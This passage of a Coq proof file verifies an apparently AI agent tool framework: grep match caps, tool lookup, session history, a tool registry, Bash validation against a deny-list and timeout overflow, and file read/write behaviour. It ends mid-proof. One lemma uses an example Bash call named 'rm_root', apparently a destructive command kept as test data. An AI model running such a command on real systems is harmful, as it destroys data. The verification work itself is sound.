  GrepTool.reached st K = negb (Z.of_nat (length (GrepTool.allMatches st)) <? K).
Proof. unfold GrepTool.reached. now rewrite Z.leb_antisym. Qed.

Lemma below_capped (st : GrepTool.scan) : below st -> capped_state st.
Proof. intros H. split; [lia|]. intros He. lia. Qed.

(** Either the loop goes on below the cap, or it stops in a capped state. *)
Lemma reached_cases (st : GrepTool.scan) :
  (GrepTool.reached st K = false /\ below st) \/
  (GrepTool.reached st K = true /\ K <= Z.of_nat (length (GrepTool.allMatches st))).
Proof.
  rewrite reached_spec.
  destruct (Z.ltb_spec (Z.of_nat (length (GrepTool.allMatches st))) K); [left|right]; now split.
Qed.

Lemma scan_lines_capped (pattern filePath : string) (lines : list string) :
  forall (i : Z) (st : GrepTool.scan),
    below st -> capped_state (GrepTool.scan_lines pattern filePath K i lines st).
Proof.
  induction lines as [|line rest IH]; intros i st Hlt; cbn [GrepTool.scan_lines].
  - now apply below_capped.
  - destruct (gostrings.Contains line pattern).
    + match goal with |- context [GrepTool.reached ?st' K] =>
        destruct (reached_cases st') as [[-> Hb]|[-> Hr]] end.
      * now apply IH.
      * cbn [GrepTool.allMatches GrepTool.scanned] in *. unfold capped.
        rewrite length_app in *. cbn [length] in *.
        split; [lia|]. intros _.
        exists (GrepMatch.mk filePath (i + 1) line).
        now rewrite !last_snoc.
    + now apply IH.
Qed.

Lemma scan_files_capped (fs : FS) (pattern : string) (matches : list string) :
  forall st : GrepTool.scan,
    below st -> capped_state (GrepTool.scan_files fs pattern K matches st).
Proof.
  induction matches as [|filePath rest IH]; intros st Hlt; cbn [GrepTool.scan_files].
  - now apply below_capped.
  - destruct (os.Stat fs filePath) as [[content|]|]; try now apply IH.
    destruct (os.ReadFile fs filePath) as [text|err]; [|now apply IH].
    pose proof (scan_lines_capped pattern filePath
                  (gostrings.Split text gostrings.LF) 0 st Hlt) as Hin.
    match goal with |- context [GrepTool.reached ?st' K] =>
      destruct (reached_cases st') as [[-> Hb]|[-> Hr]] end.
    + now apply IH.
    + exact Hin.
Qed.

Lemma scan_paths_capped (host : Host) (fs : FS) (pattern : string) (filePaths : list string) :
  forall st : GrepTool.scan,
    below st -> capped_state (GrepTool.scan_paths host fs pattern K filePaths st).
Proof.
  induction filePaths as [|path rest IH]; intros st Hlt; cbn [GrepTool.scan_paths].
  - now apply below_capped.
  - match goal with |- context [GrepTool.scan_files fs pattern K ?ms st] =>
      pose proof (scan_files_capped fs pattern ms st Hlt) as Hin end.
    match goal with |- context [GrepTool.reached ?st' K] =>
      destruct (reached_cases st') as [[-> Hb]|[-> Hr]] end.
    + now apply IH.
    + exact Hin.
Qed.

End grep_facts.

(** C9.  The cap is 100 when [max_matches] is not given.  With a cap [K]
    of at least one, [Execute] either rejects the input before any line is
    scanned, or returns at most [K] matches over all files; and when it
    returns [K] of them, the last line it scanned is the line of the [K]-th
    match: no later line and no later file was scanned.  The file system is
    left as it was. *)
Theorem grep_cap (host : Host) (fs : FS) (input : Input) :
  1 <= GrepTool.maxMatches_of input ->
  (input !! "max_matches" = None -> GrepTool.maxMatches_of input = 100) /\
  GrepTool.Execute host fs input = fst (GrepTool.Execute_scan host fs input) /\
  match GrepTool.Execute_scan host fs input with
  | (fs', (PGrepToolOutput out, None), log) =>
      fs' = fs /\ capped (GrepTool.maxMatches_of input) (GrepToolOutput.Matches out) log
  | (fs', (VNil, Some _), log) => fs' = fs /\ log = []
  | _ => False
  end.
Proof.
  intros HK. split; [|split; [reflexivity|]].
  - intros H. unfold GrepTool.maxMatches_of. now rewrite H.
  - unfold GrepTool.Execute_scan.
    destruct (as_string (input !! "pattern")) as [pattern|]; [|now split].
    destruct (String.eqb pattern ""); [now split|].
    destruct (GrepTool.filePaths_of input) as [|path rest]; [now split|].
    split; [reflexivity|].
    apply scan_paths_capped. cbn. lia.
Qed.

Lemma grep_cap_witness :
  exists log,
    GrepTool.Execute_scan plain_host.host examples.todo_fs examples.grep_two
    = (examples.todo_fs,
       (PGrepToolOutput
          (GrepToolOutput.mk [GrepMatch.mk "A" 2 "TODO 1"; GrepMatch.mk "A" 3 "TODO 2"] ""), None),
       log) /\
    capped 2 [GrepMatch.mk "A" 2 "TODO 1"; GrepMatch.mk "A" 3 "TODO 2"] log.
Proof.
  assert (HK : 1 <= GrepTool.maxMatches_of examples.grep_two) by (vm_compute; discriminate).
  destruct (grep_cap plain_host.host examples.todo_fs examples.grep_two HK) as (_ & _ & H).
  assert (E : GrepTool.Execute_scan plain_host.host examples.todo_fs examples.grep_two
              = (examples.todo_fs,
                 (PGrepToolOutput
                    (GrepToolOutput.mk [GrepMatch.mk "A" 2 "TODO 1"; GrepMatch.mk "A" 3 "TODO 2"] ""),
                  None),
                 [("A", 1); ("A", 2); ("A", 3)]))
    by (vm_compute; reflexivity).
  rewrite E in H. exists [("A", 1); ("A", 2); ("A", 3)].
  split; [exact E|]. exact (proj2 H).
Defined.

(** * Further properties *)

(** ** Finding a tool, and what [ExecuteTool] returns *)

Section more_session_facts.

Implicit Types (s : Session.t) (fs : FS) (toolCall : ToolCall.t).

(** X1.  [ExecuteTool] takes the first tool of the session that has the
    name of the call: the tools in front of it have other names. *)
Theorem find_tool_first (tools : list Tool.t) (toolName : string) (t : Tool.t) :
  core.find_tool tools toolName = Some t ->
  exists pre post,
    tools = pre ++ t :: post /\
    Tool.Name t = toolName /\
    Forall (fun t' => Tool.Name t' <> toolName) pre.
Proof.
  induction tools as [|t0 tools IH]; cbn [core.find_tool]; [discriminate|].
  destruct (String.eqb_spec (Tool.Name t0) toolName) as [He|Hne].
  - intros [= <-]. exists [], tools. now repeat split.
  - intros H. destruct (IH H) as (pre & post & -> & Hn & Hall).
    exists (t0 :: pre), post. repeat split; [exact Hn|]. now constructor.
Qed.

Lemma find_tool_first_witness :
  exists pre post,
    [FileReadTool.NewFileReadTool; FileEditTool.NewFileEditTool; FileReadTool.NewFileReadTool]
    = pre ++ FileEditTool.NewFileEditTool :: post /\
    Tool.Name FileEditTool.NewFileEditTool = "FileEdit" /\
    Forall (fun t' => Tool.Name t' <> "FileEdit") pre.
Proof.
  apply (find_tool_first
           [FileReadTool.NewFileReadTool; FileEditTool.NewFileEditTool; FileReadTool.NewFileReadTool]
           "FileEdit" FileEditTool.NewFileEditTool).
  reflexivity.
Defined.

Lemma find_tool_exists (tools : list Tool.t) (toolName : string) :
  Exists (fun t => Tool.Name t = toolName) tools ->
  exists t, core.find_tool tools toolName = Some t.
Proof.
  induction 1 as [t tools Ht|t tools _ IH]; cbn [core.find_tool].
  - exists t. now rewrite (proj2 (String.eqb_eq _ _) Ht).
  - destruct (String.eqb (Tool.Name t) toolName); [now exists t|exact IH].
Qed.

(** X2.  When some tool of the session has the name of the call,
    [ExecuteTool] returns a result and a [nil] error, whatever the
    validator and [Execute] of the tool return; the result repeats the name
    and the input of the call. *)
Theorem execute_tool_found s fs toolCall :
  Exists (fun t => Tool.Name t = ToolCall.ToolName toolCall) (Session.Tools s) ->
  exists s' fs' result,
    core.ExecuteTool s fs toolCall = (s', fs', (Some result, None)) /\
    ToolUseResult.ToolName result = ToolCall.ToolName toolCall /\
    ToolUseResult.Input result = ToolCall.Input toolCall.
Proof.
  intros H. destruct (find_tool_exists _ _ H) as [tool Hf].
  unfold core.ExecuteTool. rewrite Hf.
  destruct (Tool.ValidateInput tool fs _) as [err|].
  - eexists _, _, _. now split.
  - destruct (Tool.Execute tool fs _) as [fs' [output err]].
    eexists _, _, _. now split.
Qed.

Lemma execute_tool_found_witness :
  exists s' fs' result,
    core.ExecuteTool examples.bash_session ∅ examples.rm_root_call = (s', fs', (Some result, None)) /\
    ToolUseResult.ToolName result = "Bash" /\
    ToolUseResult.Input result = examples.rm_root.
Proof.
  apply (execute_tool_found examples.bash_session ∅ examples.rm_root_call).
  now constructor.
Defined.

(** X3.  When the tool is found and its validator accepts the input, the
    history gets one message more: a tool message whose content is the
    output of [Execute], also when [Execute] returns an error; the error is
    in the result, not in the history, and not the error of the call. *)
Theorem execute_tool_records_output s fs toolCall (tool : Tool.t)
    (fs' : FS) (output : value) (err : option error) :
  core.find_tool (Session.Tools s) (ToolCall.ToolName toolCall) = Some tool ->
  Tool.ValidateInput tool fs (ToolCall.Input toolCall) = None ->
  Tool.Execute tool fs (ToolCall.Input toolCall) = (fs', (output, err)) ->
  exists s',
    core.ExecuteTool s fs toolCall
    = (s', fs',
       (Some (ToolUseResult.mk (ToolCall.ToolName toolCall) (ToolCall.Input toolCall) output err),
        None)) /\
    Session.Messages s' = Session.Messages s ++ [Message.mk "tool" output []] /\
    Session.Tools s' = Session.Tools s /\
    Session.Config s' = Session.Config s.
Proof.
  intros Hf Hv He. unfold core.ExecuteTool. rewrite Hf, Hv, He.
  eexists. split; [reflexivity|]. now repeat split.
Qed.

Lemma execute_tool_records_output_witness :
  exists s',
    core.ExecuteTool (core.NewSession [FileReadTool.NewFileReadTool] None) ∅
      (ToolCall.mk "FileRead" examples.read_f "call-3")
    = (s', ∅,
       (Some (ToolUseResult.mk "FileRead" examples.read_f
                (PFileReadToolOutput (FileReadToolOutput.mk "error" "" "File does not exist"))
                None),
        None)) /\
    Session.Messages s'
    = Session.Messages (core.NewSession [FileReadTool.NewFileReadTool] None)
      ++ [Message.mk "tool"
            (PFileReadToolOutput (FileReadToolOutput.mk "error" "" "File does not exist")) []].
Proof.
  destruct (execute_tool_records_output (core.NewSession [FileReadTool.NewFileReadTool] None) ∅
              (ToolCall.mk "FileRead" examples.read_f "call-3") FileReadTool.NewFileReadTool ∅
              (PFileReadToolOutput (FileReadToolOutput.mk "error" "" "File does not exist")) None)
    as (s' & H1 & H2 & _).
  - reflexivity.
  - vm_compute; reflexivity.
  - vm_compute; reflexivity.
  - exists s'. now split.
Defined.

Lemma step_tools_config (st : Session.t * FS) (o : core.op) :
  Session.Tools (fst (core.step st o)) = Session.Tools (fst st) /\
  Session.Config (fst (core.step st o)) = Session.Config (fst st).
Proof.
  destruct st as [s fs]. destruct o as [c|c|n i r|toolCall]; cbn [core.step fst]; try now split.
  unfold core.ExecuteTool.
  destruct (core.find_tool _ _) as [tool|]; [|now split].
  destruct (Tool.ValidateInput tool fs _); [now split|].
  destruct (Tool.Execute tool fs _) as [fs' [output err]]. now split.
Qed.

(** X4.  No run of operations changes the tool set or the configuration
    of a session. *)
Theorem run_keeps_tools_and_config (st : Session.t * FS) (ops : list core.op) :
  Session.Tools (fst (core.run st ops)) = Session.Tools (fst st) /\
  Session.Config (fst (core.run st ops)) = Session.Config (fst st).
Proof.
  induction ops as [|o ops IH] using rev_ind; [now split|].
  rewrite run_snoc. destruct (step_tools_config (core.run st ops) o) as [Ht Hc].
  rewrite Ht, Hc. exact IH.
Qed.

Lemma messages_of_app (ops1 ops2 : list core.op) :
  history.messages_of (ops1 ++ ops2) = history.messages_of ops1 ++ history.messages_of ops2.
Proof.
  induction ops1 as [|o ops1 IH]; [reflexivity|].
  cbn [app history.messages_of]. destruct (history.message_of o); now rewrite IH.
Qed.

(** X5.  A run of [AddUserMessage], [AddAssistantMessage] and
    [AddToolResult] operations puts one message per operation at the end of
    the history, in the order of the operations, and leaves the file system
    alone; the name and the id given to [AddToolResult] are not kept. *)
Theorem add_only_history s fs (ops : list core.op) :
  Forall history.is_add ops ->
  Session.Messages (fst (core.run (s, fs) ops)) = Session.Messages s ++ history.messages_of ops /\
  length (history.messages_of ops) = length ops /\
  snd (core.run (s, fs) ops) = fs.
Proof.
  induction ops as [|o ops IH] using rev_ind; intros Hall.
  - cbn. now rewrite app_nil_r.
  - apply Forall_app in Hall as [Hall Ho]. apply Forall_cons in Ho as [Ho _].
    destruct (IH Hall) as (Hm & Hl & Hfs).
    rewrite run_snoc, messages_of_app, !length_app, app_assoc, <- Hm, Hl.
    destruct (core.run (s, fs) ops) as [s1 fs1]. cbn [fst snd] in *.
    destruct o; try contradiction; cbn; now repeat split.
Qed.

Lemma add_only_history_witness :
  Session.Messages
    (fst (core.run (core.NewSession [] None, ∅)
            [core.OpAddUserMessage "hello"; core.OpAddToolResult "Bash" "id-1" VNil]))
  = Session.Messages (core.NewSession [] None)
    ++ [Message.mk "user" (VString "hello") []; Message.mk "tool" VNil []].
Proof.
  apply (add_only_history (core.NewSession [] None) ∅
           [core.OpAddUserMessage "hello"; core.OpAddToolResult "Bash" "id-1" VNil]).
  repeat constructor.
Defined.

End more_session_facts.

(** ** The registry *)

(** X6.  Registering a factory under a name makes [GetTool] of that name
    return a tool made by the factory; lookups of other names are not
    affected; a second registration under the name replaces the first; a
    new registry has no tool. *)
Theorem registry_register_get (r : ToolRegistry.t) (name other : string)
    (factory factory' : unit -> Tool.t) :
  ToolRegistry.GetTool (ToolRegistry.RegisterTool r name factory) name = Some (factory tt) /\
  (other <> name ->
   ToolRegistry.GetTool (ToolRegistry.RegisterTool r name factory) other
   = ToolRegistry.GetTool r other) /\
  ToolRegistry.GetTool
    (ToolRegistry.RegisterTool (ToolRegistry.RegisterTool r name factory) name factory') name
  = Some (factory' tt) /\
  ToolRegistry.GetTool ToolRegistry.NewToolRegistry name = None.
Proof.
  unfold ToolRegistry.GetTool, ToolRegistry.RegisterTool, ToolRegistry.NewToolRegistry.
  cbn [ToolRegistry.tools]. repeat split.
  - now rewrite lookup_insert_eq.
  - intros Hne. now rewrite lookup_insert_ne.
  - now rewrite lookup_insert_eq.
Qed.

Lemma all_from_elem (entries : list (string * (unit -> Tool.t))) (t : Tool.t) :
  t ∈ registry_views.all_from entries <-> exists name factory, (name, factory) ∈ entries /\ t = factory tt.
Proof.
  induction entries as [|[n f] entries IH]; cbn [registry_views.all_from].
  - split; [intros H; now apply elem_of_nil in H|].
    intros (? & ? & H & _). now apply elem_of_nil in H.
  - rewrite elem_of_cons, IH. split.
    + intros [->|(n' & f' & Hin & ->)].
      * exists n, f. split; [apply list_elem_of_here|reflexivity].
      * exists n', f'. split; [now apply list_elem_of_further|reflexivity].
    + intros (n' & f' & Hin & ->). apply elem_of_cons in Hin as [[= -> ->]|Hin]; [now left|].
      right. now exists n', f'.
Qed.

Lemma read_only_from_elem (entries : list (string * (unit -> Tool.t))) (t : Tool.t) :
  t ∈ registry_views.read_only_from entries
  <-> t ∈ registry_views.all_from entries /\ Tool.IsReadOnly t = true.
Proof.
  induction entries as [|[n f] entries IH];
    cbn [registry_views.read_only_from registry_views.all_from].
  - split; [intros H; now apply elem_of_nil in H|]. intros [H _]. now apply elem_of_nil in H.
  - destruct (Tool.IsReadOnly (f tt)) eqn:Hro.
    + rewrite !elem_of_cons, IH. split.
      * intros [->|[H1 H2]]; [split; [now left|exact Hro]|split; [now right|exact H2]].
      * intros [[->|H1] H2]; [now left|right; now split].
    + rewrite elem_of_cons, IH. split.
      * intros [H1 H2]. split; [now right|exact H2].
      * intros [[->|H1] H2]; [congruence|now split].
Qed.

Lemma all_from_length (entries : list (string * (unit -> Tool.t))) :
  length (registry_views.all_from entries) = length entries.
Proof. induction entries as [|[n f] entries IH]; cbn; [reflexivity|now rewrite IH]. Qed.

(** X7.  The views of a registry.  [GetAllTools] has one tool per
    registered name, each made by a registered factory; what [GetTool]
    returns for a name is among them; [GetReadOnlyTools] has those of them
    that are read-only, and no other. *)
Theorem registry_views_agree (r : ToolRegistry.t) (t : Tool.t) :
  length (registry_views.GetAllTools r) = size (ToolRegistry.tools r) /\
  (t ∈ registry_views.GetAllTools r
   <-> exists name factory, ToolRegistry.tools r !! name = Some factory /\ t = factory tt) /\
  (forall name, ToolRegistry.GetTool r name = Some t -> t ∈ registry_views.GetAllTools r) /\
  (t ∈ registry_views.GetReadOnlyTools r
   <-> t ∈ registry_views.GetAllTools r /\ Tool.IsReadOnly t = true).
Proof.
  unfold registry_views.GetAllTools, registry_views.GetReadOnlyTools.
  assert (Hall : t ∈ registry_views.all_from (map_to_list (ToolRegistry.tools r))
                 <-> exists name factory, ToolRegistry.tools r !! name = Some factory /\ t = factory tt).
  { rewrite all_from_elem. split; intros (n & f & H & ->); exists n, f; split; try reflexivity.
    - now apply elem_of_map_to_list.
    - now apply elem_of_map_to_list. }
  split; [|split; [exact Hall|split]].
  - now rewrite all_from_length, length_map_to_list.
  - intros name. unfold ToolRegistry.GetTool.
    destruct (ToolRegistry.tools r !! name) as [f|] eqn:Hl; [|discriminate].
    intros [= <-]. apply Hall. now exists name, f.
  - apply read_only_from_elem.
Qed.

(** ** The process-execution tool: what is accepted, what is run *)

Lemma check_banned_none (command : string) (l : list string) :
  BashTool.check_banned command l = None
  <-> Forall (fun b => gostrings.Contains command b = false) l.
Proof.
  induction l as [|b l IH]; cbn [BashTool.check_banned].
  - split; [constructor|reflexivity].
  - destruct (gostrings.Contains command b) eqn:Hc.
    + split; [discriminate|]. intros H. apply Forall_cons in H as [H _]. congruence.
    + rewrite IH. split; [now constructor|]. intros H. now apply Forall_cons in H as [_ H].
Qed.

Lemma validate_timeout_none (input : Input) :
  BashTool.validate_timeout input = None
  <-> input !! "timeout" = None \/
      exists n, input !! "timeout" = Some (VInt n) /\ 1 <= n <= 300.
Proof.
  unfold BashTool.validate_timeout.
  destruct (input !! "timeout") as [v|]; [|split; [now left|reflexivity]].
  split.
  - destruct v; try discriminate.
    destruct (Z.leb_spec n 0); try discriminate.
    destruct (Z.ltb_spec 300 n); try discriminate.
    intros _. right. exists n. split; [reflexivity|lia].
  - intros [H|(n & [= ->] & Hn)]; [discriminate|].
    destruct (Z.leb_spec n 0); [lia|]. destruct (Z.ltb_spec 300 n); [lia|reflexivity].
Qed.

(** X8.  The inputs the validator of the Bash tool accepts are exactly
    those with a command that is a non-empty string containing no entry of
    the deny-list, and with no timeout or a timeout that is an [int] from 1
    to 300. *)
Theorem bash_validate_accepts (input : Input) :
  BashTool.ValidateInput input = None
  <-> exists command,
        input !! "command" = Some (VString command) /\
        command <> "" /\
        Forall (fun b => gostrings.Contains command b = false) BashTool.bannedCommands /\
        (input !! "timeout" = None \/
         exists n, input !! "timeout" = Some (VInt n) /\ 1 <= n <= 300).
Proof.
  unfold BashTool.ValidateInput. split.
  - destruct (input !! "command") as [[]|]; try discriminate.
    destruct (String.eqb_spec s ""); try discriminate.
    destruct (BashTool.check_banned s BashTool.bannedCommands) eqn:Hb; try discriminate.
    intros Ht. exists s. split; [reflexivity|]. split; [assumption|].
    split; [now apply check_banned_none|now apply validate_timeout_none].
  - intros (command & -> & Hne & Hb & Ht).
    destruct (String.eqb_spec command ""); [contradiction|].
    rewrite (proj2 (check_banned_none command _) Hb).
    now apply validate_timeout_none.
Qed.

Lemma wrap64_small (z : Z) :
  -9223372036854775808 <= z <= 9223372036854775807 -> wrap64 z = z.
Proof. intros H. unfold wrap64. rewrite Z.mod_small by lia. lia. Qed.

Lemma wrap64_over (z : Z) :
  9223372036854775808 <= z < 18446744073709551616 -> wrap64 z = z - 18446744073709551616.
Proof.
  intros H. unfold wrap64.
  replace (z + 9223372036854775808)
    with ((z - 9223372036854775808) + 1 * 18446744073709551616) by lia.
  rewrite Z_mod_plus_full, Z.mod_small by lia. lia.
Qed.

(** X9.  With a command that is a non-empty string, [Execute] runs that
    command once, and what it returns is made from that run alone.  The
    timeout given to the context is 30 seconds when the timeout of the
    input is missing, not an [int] or not positive, and the seconds of the
    input when that is an [int] from 1 to 9223372036; after validation it
    lies between 1 and 300 seconds.  Above 9223372036 the product with
    [time.Second] overflows: up to 18446744073 the timeout given to the
    context is negative. *)
Theorem bash_execute_runs_command (host : Host) (fs : FS) (input : Input) (command : string) :
  input !! "command" = Some (VString command) ->
  command <> "" ->
  BashTool.Execute host fs input
  = bash_run.finish (exec_bash host fs command (bash_run.timeout_of input)) /\
  (as_int (input !! "timeout") = None -> bash_run.timeout_of input = 30 * time.Second) /\
  (forall n, input !! "timeout" = Some (VInt n) ->
     (n <= 0 -> bash_run.timeout_of input = 30 * time.Second) /\
     (0 < n <= 9223372036 -> bash_run.timeout_of input = n * time.Second) /\
     (9223372036 < n <= 18446744073 ->
      bash_run.timeout_of input = n * time.Second - 18446744073709551616 /\
      bash_run.timeout_of input < 0)) /\
  (BashTool.ValidateInput input = None ->
   time.Second <= bash_run.timeout_of input <= 300 * time.Second).
Proof.
  intros Hc Hne.
  assert (Hn : forall n, input !! "timeout" = Some (VInt n) ->
     (n <= 0 -> bash_run.timeout_of input = 30 * time.Second) /\
     (0 < n <= 9223372036 -> bash_run.timeout_of input = n * time.Second) /\
     (9223372036 < n <= 18446744073 ->
      bash_run.timeout_of input = n * time.Second - 18446744073709551616 /\
      bash_run.timeout_of input < 0)).
  { intros n Ht. unfold bash_run.timeout_of, time.seconds, time.Second. rewrite Ht.
    cbn [as_int]. destruct (Z.ltb_spec 0 n); (split; [|split]); intros Hr; try lia.
    - apply wrap64_small. lia.
    - rewrite wrap64_over by lia. lia. }
  split; [|split; [|split; [exact Hn|]]].
  - unfold BashTool.Execute, bash_run.timeout_of, bash_run.finish.
    rewrite Hc. cbn [as_string].
    destruct (String.eqb_spec command ""); [contradiction|].
    destruct (exec_bash host fs command _) as [fs' []]; reflexivity.
  - unfold bash_run.timeout_of. now intros ->.
  - intros Hv. assert (Ht : BashTool.validate_timeout input = None).
    { revert Hv. unfold BashTool.ValidateInput. rewrite Hc.
      destruct (String.eqb command ""); [discriminate|].
      now destruct (BashTool.check_banned command BashTool.bannedCommands). }
    apply validate_timeout_none in Ht.
    destruct Ht as [Ht|(n & Ht & Hr)].
    + unfold bash_run.timeout_of, time.Second. rewrite Ht. cbn [as_int]. lia.
    + destruct (Hn n Ht) as (_ & H & _). rewrite H by lia. unfold time.Second. lia.
Qed.

Lemma bash_execute_runs_command_witness :
  BashTool.Execute plain_host.host ∅ examples.ls_300
  = bash_run.finish (exec_bash plain_host.host ∅ "ls" (bash_run.timeout_of examples.ls_300)) /\
  bash_run.timeout_of examples.ls_300 = 300 * time.Second.
Proof.
  destruct (bash_execute_runs_command plain_host.host ∅ examples.ls_300 "ls")
    as (H1 & _ & H2 & _).
  - vm_compute; reflexivity.
  - discriminate.
  - split; [exact H1|].
    destruct (H2 300) as (_ & H & _); [vm_compute; reflexivity|]. apply H. lia.
Defined.

(** X10.  When [Execute] returns an output struct, it returns no error;
    the output has the bytes the process wrote to standard output; and
    either [Interrupted] is false and the standard error bytes are as the
    process wrote them, or [Interrupted] is true, the exit code is 0 and
    the standard error bytes are followed by the timeout notice. *)
Theorem bash_output_shape (host : Host) (fs fs' : FS) (input : Input)
    (o : BashToolOutput.t) (e : option error) :
  BashTool.Execute host fs input = (fs', (PBashToolOutput o, e)) ->
  e = None /\
  exists command stdoutBytes stderrBytes err,
    exec_bash host fs command (bash_run.timeout_of input)
    = (fs', Waited stdoutBytes stderrBytes err) /\
    input !! "command" = Some (VString command) /\
    BashToolOutput.Stdout o = stdoutBytes /\
    ((BashToolOutput.Interrupted o = false /\ BashToolOutput.Stderr o = stderrBytes) \/
     (BashToolOutput.Interrupted o = true /\ BashToolOutput.ExitCode o = 0 /\
      BashToolOutput.Stderr o
      = stderrBytes +:+ gostrings.nl +:+ "Command execution timed out")).
Proof.
  unfold BashTool.Execute.
  destruct (input !! "command") as [[]|] eqn:Hc; cbn [as_string]; try discriminate.
  destruct (String.eqb s ""); [discriminate|].
  fold (bash_run.timeout_of input).
  destruct (exec_bash host fs s (bash_run.timeout_of input)) as [fs1 run] eqn:Hrun.
  destruct run as [err|err|err|out errb w]; try discriminate.
  intros [= -> <- <-]. split; [reflexivity|].
  exists s, out, errb, w. split; [exact Hrun|]. split; [reflexivity|].
  destruct w as [|[status|]|[|]]; cbn; split; try reflexivity; auto.
Qed.

Lemma bash_output_shape_witness :
  exists command stdoutBytes stderrBytes err,
    exec_bash (bash_run.scripted (Waited "out" "err" (OtherError true))) ∅ command
      (bash_run.timeout_of examples.ls_300)
    = (∅, Waited stdoutBytes stderrBytes err) /\
    examples.ls_300 !! "command" = Some (VString command).
Proof.
  destruct (bash_output_shape (bash_run.scripted (Waited "out" "err" (OtherError true))) ∅ ∅
              examples.ls_300
              (BashToolOutput.mk "out" ("err" +:+ gostrings.nl +:+ "Command execution timed out") 0 true)
              None)
    as (_ & command & o & e & w & H1 & H2 & _).
  - vm_compute; reflexivity.
  - exists command, o, e, w. now split.
Defined.

(** ** The file-read tool: lines *)

Section line_facts.








End line_facts.

(** X11.  Reading a regular file that is not an image, without offset and
    without limit, returns its content, byte for byte. *)
Theorem read_whole_file (fs : FS) (input : Input) (filePath content : string) :
  input !! "file_path" = Some (VString filePath) ->
  filePath <> "" ->
  gostrings.is_ascii filePath = true ->
  fs !! filePath = Some (RegularFile content) ->
  FileReadTool.imageExts (gostrings.ToLower (filepath.Ext filePath)) = false ->
  as_float64 (input !! "offset") = None ->
  as_float64 (input !! "limit") = None ->
  FileReadTool.Execute fs input
  = (fs, (PFileReadToolOutput (FileReadToolOutput.mk "text" content ""), None)).
Proof.
  intros Hp Hne _ Hf Himg Ho Hl.
  rewrite (read_text fs input filePath content Hp Hne Hf Himg).
  unfold FileReadTool.offset_of, FileReadTool.limit_of. rewrite Ho, Hl.
  unfold FileReadTool.apply_offset, FileReadTool.apply_limit. cbn [Z.ltb Z.compare andb].
  now rewrite Join_Split.
Qed.

Lemma read_whole_file_witness :
  FileReadTool.Execute examples.notes_fs (<["file_path" := VString "notes.txt"]> ∅)
  = (examples.notes_fs,
     (PFileReadToolOutput (FileReadToolOutput.mk "text" examples.two_lines ""), None)).
Proof.
  apply (read_whole_file examples.notes_fs (<["file_path" := VString "notes.txt"]> ∅)
           "notes.txt" examples.two_lines).
  - vm_compute; reflexivity.
  - discriminate.
  - vm_compute; reflexivity.
  - vm_compute; reflexivity.
  - vm_compute; reflexivity.
  - vm_compute; reflexivity.
  - vm_compute; reflexivity.
Defined.



(** X13.  On an input that its validator accepts, [Execute] of the
    file-read tool returns no Go error and changes no file: it returns an
    output struct whose type is "text", "image" or "error"; an image has no
    content and only an error carries an error text; and the error text
    "File does not exist" is given only for a path that is not there. *)
Theorem read_validated_structured (fs : FS) (input : Input) :
  FileReadTool.ValidateInput input = None ->
  exists filePath out,
    input !! "file_path" = Some (VString filePath) /\
    FileReadTool.Execute fs input = (fs, (PFileReadToolOutput out, None)) /\
    (FileReadToolOutput.Type_ out = "text" /\ FileReadToolOutput.Error out = "" \/
     FileReadToolOutput.Type_ out = "image" /\ FileReadToolOutput.Content out = "" /\
       FileReadToolOutput.Error out = "" \/
     FileReadToolOutput.Type_ out = "error" /\ FileReadToolOutput.Content out = "") /\
    (FileReadToolOutput.Error out = "File does not exist" -> fs !! filePath = None).
Proof.
  unfold FileReadTool.ValidateInput, FileReadTool.Execute.
  destruct (input !! "file_path") as [[]|]; try discriminate.
  cbn [as_string]. destruct (String.eqb s ""); [discriminate|]. intros _.
  exists s. unfold os.Stat, os.ReadFile.
  destruct (fs !! s) as [[content|]|].
  - destruct (FileReadTool.imageExts _); eexists; (split; [reflexivity|]);
      (split; [reflexivity|]); (split; [|discriminate]); cbn; auto.
  - destruct (FileReadTool.imageExts _); eexists; (split; [reflexivity|]);
      (split; [reflexivity|]); (split; [|discriminate]); cbn; auto.
  - eexists. split; [reflexivity|]. split; [reflexivity|]. split; [|reflexivity]. cbn; auto.
Qed.

Lemma read_validated_structured_witness :
  exists filePath out,
    examples.read_f !! "file_path" = Some (VString filePath) /\
    FileReadTool.Execute ∅ examples.read_f = (∅, (PFileReadToolOutput out, None)).
Proof.
  destruct (read_validated_structured ∅ examples.read_f) as (p & out & H1 & H2 & _).
  - vm_compute; reflexivity.
  - now exists p, out.
Defined.

(** ** More on strings *)

Section more_string_facts.











End more_string_facts.

(** ** The file-write tool *)



(** The file after a write with the default flags. *)
Lemma write_default_state (host : Host) (fs fs1 : FS) (input : Input) (filePath content : string) :
  input !! "file_path" = Some (VString filePath) ->
  filePath <> "" ->
  input !! "content" = Some (VString content) ->
  as_bool (input !! "append") = None ->
  as_bool (input !! "leading_newline") = None ->
  as_bool (input !! "trailing_newline") = None ->
  os_MkdirAll host fs (filepath_Dir host filePath) = (fs1, None) ->
  fs1 !! filePath <> Some Directory ->
  fst (FileWriteTool.Execute host fs input) !! filePath
  = Some (RegularFile (content +:+ gostrings.nl)).
Proof.
  intros Hp Hne Hc Ha Hl Ht Hmk Hdir. unfold FileWriteTool.Execute.
  rewrite Hp, Hc. cbn [as_string].
  destruct (String.eqb_spec filePath ""); [contradiction|].
  rewrite Ha, Hl, Ht, Hmk. cbn [andb negb]. unfold os.WriteFile.
  destruct (fs1 !! filePath) as [[old|]|]; try congruence; cbn [fst];
    apply lookup_insert_eq.
Qed.

(** X15.  Write, then read.  After a write with the default flags to a
    path that is not an image path, reading the path without offset and
    limit returns the content followed by one newline. *)
Theorem write_then_read (host : Host) (fs fs1 : FS) (input readInput : Input)
    (filePath content : string) :
  input !! "file_path" = Some (VString filePath) ->
  filePath <> "" ->
  gostrings.is_ascii filePath = true ->
  input !! "content" = Some (VString content) ->
  as_bool (input !! "append") = None ->
  as_bool (input !! "leading_newline") = None ->
  as_bool (input !! "trailing_newline") = None ->
  os_MkdirAll host fs (filepath_Dir host filePath) = (fs1, None) ->
  fs1 !! filePath <> Some Directory ->
  FileReadTool.imageExts (gostrings.ToLower (filepath.Ext filePath)) = false ->
  readInput !! "file_path" = Some (VString filePath) ->
  as_float64 (readInput !! "offset") = None ->
  as_float64 (readInput !! "limit") = None ->
  snd (FileReadTool.Execute (fst (FileWriteTool.Execute host fs input)) readInput)
  = (PFileReadToolOutput (FileReadToolOutput.mk "text" (content +:+ gostrings.nl) ""), None).
Proof.
  intros Hp Hne Hasc Hc Ha Hl Ht Hmk Hdir Himg Hrp Ho Hlim.
  pose proof (write_default_state host fs fs1 input filePath content
                Hp Hne Hc Ha Hl Ht Hmk Hdir) as Hfile.
